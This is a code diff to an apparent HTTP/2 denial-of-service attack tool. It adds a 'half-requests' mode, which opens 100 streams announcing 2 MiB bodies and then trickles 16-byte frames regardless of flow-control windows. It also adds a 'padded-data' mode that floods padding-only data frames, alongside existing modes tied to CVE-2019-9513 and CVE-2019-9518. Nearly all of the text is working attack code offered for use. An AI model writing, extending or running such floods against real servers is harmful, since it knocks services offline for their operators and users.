@@ -18,6 +18,8 @@ KIND is one of
   window         window updates without end, of one byte each
   priority       priorities without end (CVE-2019-9513)
   empty-data     data frames of 0 bytes without end, in one call (CVE-2019-9518)
+  half-requests  requests of 2 MiB that never arrive whole, in pieces of 16 bytes, a hundred on each connection
+  padded-data    data frames that bring padding only
   header-table   allows the router a table of 4 GiB for its answers' headers, and asks for such as no other answer has
   hpack-bomb     a header of 4 KB, and 12,000 references to it in each call
   tls-stall      TLS handshakes that are begun and go no further
@@ -103,6 +105,7 @@ class Attack:
         self.block = b""
         self.not_before = 0.0
         self.calls = 0
+        self.turn = 0
 
     def next(self, now):
         if self.kind == "idle" or now < self.not_before:
@@ -211,6 +214,26 @@ class Attack:
             self.calls = 1
             return self.headers(True, header_block(self.encoder))
         return DataFrame(self.stream).serialize() * FLOOD_FRAMES
+
+    def half_requests(self, now):
+        size = 2 * 1024 * 1024
+        if self.calls < 100:
+            out = self.headers(True, header_block(self.encoder))
+            out += b"\x00\x00\x05\x00\x00" + self.stream.to_bytes(4, "big") + b"\x00" + size.to_bytes(4, "big")
+            self.stream += 2
+            self.calls += 1
+            return out
+        # Whatever the windows say; 25 bytes of the wire are a piece.
+        self.turn = (self.turn + 2) % 200
+        frame = DataFrame(self.turn + 1)
+        frame.data = b"x" * 16
+        return frame.serialize() * 40
+
+    def padded_data(self, now):
+        if not self.calls:
+            self.calls = 1
+            return self.headers(True, header_block(self.encoder))
+        return (b"\x00\x00\x01\x00\x08" + self.stream.to_bytes(4, "big") + b"\x00") * FLOOD_FRAMES
 
     def header_table(self, now):
         out = b""
